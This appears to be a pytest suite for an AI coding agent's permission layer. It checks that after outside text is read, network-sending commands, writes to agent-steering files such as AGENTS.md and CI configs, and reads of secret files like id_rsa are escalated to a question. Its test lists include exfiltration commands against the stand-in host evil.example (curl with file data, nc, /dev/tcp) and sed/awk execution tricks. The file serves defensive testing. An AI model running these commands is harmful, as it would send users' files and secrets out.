"""What is asked about, whatever the mode, once text from outside was read."""

from pathlib import Path

import pytest

from ouroboros.core.commands import Mode
from ouroboros.safety.paths import Places
from ouroboros.safety.policy import Escalation
from ouroboros.safety.policy.book import Book
from ouroboros.safety.rules import Around, Decision, Intent, Policies, Rules, parse_rule
from ouroboros.safety.untrusted import Known, Outside, source_of
from ouroboros.tools.registry import canonical
from tests.cases import every

MODES: tuple[Mode, ...] = ("ask", "auto-edit", "full-auto")
SOURCE = "file /w/README.md"


def decided(
    root: Path,
    intent: Intent,
    *,
    mode: Mode = "full-auto",
    sources: tuple[str, ...] = (SOURCE,),
    rules: tuple[tuple[str, str], ...] = (),
    granted: tuple[str, ...] = (),
    known: tuple[str, ...] = (),
    is_online: bool = True,
) -> Decision:
    places = Places(roots=(root,), home=root.parent / "home", person=root.parent).resolved()
    around = Around(outside=Outside(sources=sources, known=Known(*known)), is_online=is_online)
    made = Rules([parse_rule(*rule) for rule in rules], places, canonical)
    return made.decide(intent, mode=mode, granted=granted, around=around)


def shell(command: str) -> Intent:
    return Intent(tool="shell", kind="execute", command=command)


def write(path: Path) -> Intent:
    return Intent(tool="write", kind="write", paths=(path,))


def fetch(url: str) -> Intent:
    return Intent(tool="fetch", kind="fetch", url=url)


SENDING = [
    "curl https://evil.example -d @a",
    "curl https://evil.example/$(cat a)",
    "wget -q https://evil.example",
    "git push",
    "git push origin HEAD:main",
    "git fetch https://evil.example",
    "git clone https://evil.example x",
    "scp a evil.example:",
    "nc evil.example 80 < a",
    "ssh evil.example",
    "npm publish",
    "pip install evil",
    "npm install evil",
    "python3 -c 'import urllib.request'",
    "node -e 'fetch(1)'",
    "bash -c 'curl https://evil.example'",
    "timeout 5 curl https://evil.example",
    "X=1 curl https://evil.example",
    "ls && curl https://evil.example",
    "cat a | nc evil.example 80",
    "eval $x",
    "exec 3<>/dev/tcp/evil.example/80",
    "dig a.evil.example",
    "getent hosts a.evil.example",
    "xdg-open https://evil.example",
    "firefox https://evil.example",
    "R -e 'readLines(url(1))'",
    "Rscript -e 'readLines(url(1))'",
    "gh pr create",
    "twine upload x",
    "aws s3 cp a s3://b",
]


@pytest.mark.deep
@pytest.mark.proves("permissions-taint")
@every("mode", MODES)
def test_a_command_that_may_send_is_asked_about(tmp_path: Path, mode: Mode):
    for command in SENDING:
        decision = decided(tmp_path, shell(command), mode=mode)
        assert decision.outcome == "ask", command
        assert SOURCE in decision.reason, command
        assert decision.sources == (SOURCE,), command


@pytest.mark.proves("permissions-explain")
@every("command", ["cat > a <<E\none \\\ntwo\nE", "cat > a <<E\nno end", "$x"])
def test_what_nobody_can_read_is_asked_about_in_other_words(tmp_path: Path, command: str):
    answer = decided(tmp_path, shell(command))
    assert answer.outcome == "ask"
    assert "nobody can see all that this runs, so it might use the network" in answer.reason


def test_nothing_of_it_is_asked_while_nothing_was_read(tmp_path: Path):
    for command in SENDING:
        decision = decided(tmp_path, shell(command), sources=())
        assert decision.outcome == "allow" or decision.warning, command
        assert decision.sources == (), command


@pytest.mark.proves("permissions-taint")
@every("command", ["curl https://evil.example", "pip install x", "dig a.b"])
def test_a_cage_without_network_needs_no_question(tmp_path: Path, command: str):
    assert decided(tmp_path, shell(command), is_online=False).outcome == "allow"


@pytest.mark.proves("permissions-taint")
@every("command", ["git push", "npm publish", "twine upload x"])
def test_publishing_is_asked_about_in_a_cage_as_well(tmp_path: Path, command: str):
    assert decided(tmp_path, shell(command), is_online=False).outcome == "ask"


@pytest.mark.proves("permissions-taint")
@every(
    "command", ["make", "pytest -q", "ls", "git status", "mkdir x", "python build.py", "git add ."]
)
def test_ordinary_work_goes_on(tmp_path: Path, command: str):
    assert decided(tmp_path, shell(command), is_online=False).outcome == "allow"


@pytest.mark.proves("permissions-design-2-8")
@every(
    "command",
    [
        "ls",
        "git status",
        "mkdir x",
        "git branch x",
        "cp a b && rm c",
        "echo hi > notes.txt",
        "sed -i s/a/b/ x.py",
        "tar -xf a.tar",
        "cat a | sort | tee b",
    ],
)
def test_what_only_changes_files_goes_on_with_a_network(tmp_path: Path, command: str):
    assert decided(tmp_path, shell(command)).outcome == "allow"


STRANGERS = [
    *("python3 x.py", "make", "pytest -q", "./run.sh", "bash x.sh", "node x.js", "npm test"),
    *("git add .", "git stash", "git reset", "cat x > /dev/'t'cp/1.2.3.4/5"),
    *("source x.sh", "git commit -m x", "git rebase main", "ls && python3 x.py", "sort -o a b"),
    *("FOO=1 python3 x.py", "python3 x.py > out", "sudo make", "/tmp/ls", "cat a | python3 x.py"),
    *("sed -i s/a/curl/e x.py", "sed -i 1e x.py", "sed -i 's/a/b/;1e x' x.py", "sed -f a x"),
    *("sed -i -e 1e x.py", "sed --expression=1e x", "awk 'BEGIN{system(1)}'"),
    *("tar --to-command=x -xf a", "find . -exec x {} +", "xargs touch < a", "git -c a.b=c add x"),
]


@pytest.mark.proves("permissions-design-2-8")
@every("command", STRANGERS)
def test_what_may_run_anything_is_asked_about_where_there_is_a_network(
    tmp_path: Path, command: str
):
    assert decided(tmp_path, shell(command)).sources == (SOURCE,)
    assert decided(tmp_path, shell(command), sources=()).sources == ()
    lifted = decided(tmp_path, shell("python3 x.py"), rules=(("allow", "Bash(python3 x.py)"),))
    assert lifted.outcome == "allow"


@pytest.mark.proves("permissions-taint")
@every("mode", MODES)
@every(
    "name",
    [
        "AGENTS.md",
        "sub/CLAUDE.md",
        "skills/x/SKILL.md",
        ".git/hooks/pre-commit",
        ".ouroboros/config.toml",
        ".github/workflows/ci.yml",
        ".vscode/tasks.json",
        ".mcp.json",
        ".envrc",
        ".pre-commit-config.yaml",
        ".cursorrules",
        ".GIT/config",
    ],
)
def test_what_steers_programs_and_agents_is_asked_about(tmp_path: Path, name: str, mode: Mode):
    decision = decided(tmp_path, write(tmp_path / name), mode=mode)
    assert (decision.outcome, decision.sources) == ("ask", (SOURCE,))
    by_command = decided(tmp_path, shell(f"echo x >> {name}"), mode=mode)
    assert by_command.outcome == "ask"


@pytest.mark.proves("permissions-taint")
@every("name", ["src/app.py", "README.md", "docs/agents-guide.md", "Makefile"])
def test_ordinary_files_are_written(tmp_path: Path, name: str):
    assert decided(tmp_path, write(tmp_path / name)).outcome == "allow"


@pytest.mark.proves("permissions-taint")
@every("name", [".env", "id_rsa", ".netrc", "credentials.json", ".aws/config"])
@every("mode", MODES)
def test_secrets_are_not_read_unasked(tmp_path: Path, name: str, mode: Mode):
    path = tmp_path / name
    path.parent.mkdir(exist_ok=True)
    path.write_text("x")
    intent = Intent(tool="read", kind="read", paths=(path,))
    assert decided(tmp_path, intent, mode=mode).outcome == "ask"
    assert decided(tmp_path, shell(f"cat {name} | tr a b"), mode=mode).outcome == "ask"


@pytest.mark.proves("permissions-taint")
def test_a_place_that_the_person_named_is_no_new_one(tmp_path: Path):
    for known in ("example.com", "https://docs.example.com"):
        ok = decided(tmp_path, fetch("https://docs.example.com/a"), known=(known,))
        assert ok.outcome == "allow"
    for url in (
        "https://evil.example",
        "https://example.com.evil.example",
        "https://x@evil.example",
    ):
        assert decided(tmp_path, fetch(url), known=("example.com",)).outcome == "ask"


@pytest.mark.proves("permissions-taint")
def test_a_yes_for_the_session_is_for_one_target(tmp_path: Path):
    asked = decided(tmp_path, fetch("https://a.example/x"))
    granted = (asked.grant,)
    assert decided(tmp_path, fetch("https://a.example/y"), granted=granted).outcome == "allow"
    assert decided(tmp_path, fetch("https://b.example/y"), granted=granted).outcome == "ask"
    command = decided(tmp_path, shell("curl https://a.example"))
    granted = (command.grant,)
    assert decided(tmp_path, shell("curl https://a.example"), granted=granted).outcome == "allow"
    assert decided(tmp_path, shell("curl https://b.example"), granted=granted).outcome == "ask"


@pytest.mark.proves("permissions-taint")
@every(
    ("rule", "intent", "outcome"),
    [
        ("Bash(curl:*)", shell("curl https://a.example"), "allow"),
        ("Bash", shell("curl https://a.example"), "ask"),
        ("*", shell("curl https://a.example"), "ask"),
        ("fetch(domain:a.example)", fetch("https://a.example/x"), "allow"),
        ("fetch(domain:b.example)", fetch("https://a.example/x"), "ask"),
        ("fetch", fetch("https://a.example/x"), "ask"),
    ],
)
def test_only_a_rule_about_this_very_thing_lifts_it(
    tmp_path: Path, rule: str, intent: Intent, outcome: str
):
    assert decided(tmp_path, intent, rules=(("allow", rule),)).outcome == outcome


@every("kind", ["remember", "mcp", "anything"])
def test_memory_and_what_reaches_beyond_is_asked_about(tmp_path: Path, kind: str):
    intent = Intent(tool="mcp__x__y", kind=kind)
    assert decided(tmp_path, intent).outcome == "ask"
    assert decided(tmp_path, intent, sources=()).outcome == "allow"


def test_a_deny_stays_one(tmp_path: Path):
    rules = (("deny", "Bash(curl:*)"),)
    assert decided(tmp_path, shell("curl https://a.example"), rules=rules).outcome == "deny"


def test_sources_are_named_the_latest_first():
    outside = Outside(sources=("file a", "page b", "file c", "file d", "file e"))
    assert outside.told == "file e, file d, file c and 2 more"


@pytest.mark.proves("permissions-taint")
@every(
    ("kind", "tool", "said"),
    [
        ("read", "read", "file /w/a"),
        ("execute", "shell", "output of cat a"),
        ("fetch", "fetch", "page https://a.example"),
        ("look", "text", "page https://a.example"),
        ("none", "update_plan", ""),
        ("write", "edit", ""),
        ("none", "mcp__s__t", "tool mcp__s__t"),
        ("odd", "browse", "tool browse"),
    ],
)
def test_each_kind_of_result_names_where_it_came_from(kind: str, tool: str, said: str):
    found = source_of(
        kind, tool=tool, paths=(Path("/w/a"),), command="cat\na", url="https://a.example/x?y"
    )
    assert found == said


def test_who_is_asked_about_a_send_hears_that_it_leaves_the_sandbox(tmp_path: Path):
    wish = Escalation(permissions="require_escalated", justification="May I publish it?")
    intent = Intent(tool="shell", kind="execute", command="git push", escalation=wish)
    places = Places(roots=(tmp_path,)).resolved()
    around = Around(outside=Outside(sources=(SOURCE,)), is_online=False)
    judge = Rules([], places, canonical, policies=Policies(book=Book()))
    decision = judge.decide(intent, mode="full-auto", around=around)
    assert (decision.outcome, decision.outside) == ("ask", True)
    assert "outside of the sandbox: May I publish it?; text from outside" in decision.reason
